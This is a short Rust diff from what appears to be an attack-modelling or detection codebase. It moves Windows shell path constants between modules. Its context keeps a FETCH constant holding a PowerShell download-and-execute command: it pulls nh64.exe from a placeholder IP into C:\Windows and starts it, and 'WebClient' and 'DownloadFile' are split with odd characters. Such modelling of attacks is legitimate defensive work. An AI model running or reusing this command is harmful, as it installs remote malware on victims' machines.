@@ -2,11 +2,9 @@
 
 use crate::attack::aftermath::Left;
 use crate::attack::shell::Line;
+use crate::program::{CMD, POWERSHELL};
 use crate::technique::Technique;
 use crate::truth::Weight;
-
-const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
-pub(super) const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
 
 /// How it fetches itself, as the page starts it.
 pub(super) const FETCH: &str = "powershell.exe $p='C:\\Windows\\zsvc.exe';(New-Object Net.Web¦Client).Down¦loadFile('http://203.0.113.52/dwn.php?b64=1&d=nh64.exe&B=_AMD64',$p);$b=[IO.File]::ReadAllBytes($p);[IO.File]::WriteAllBytes($p,$b);Start-Process $p";
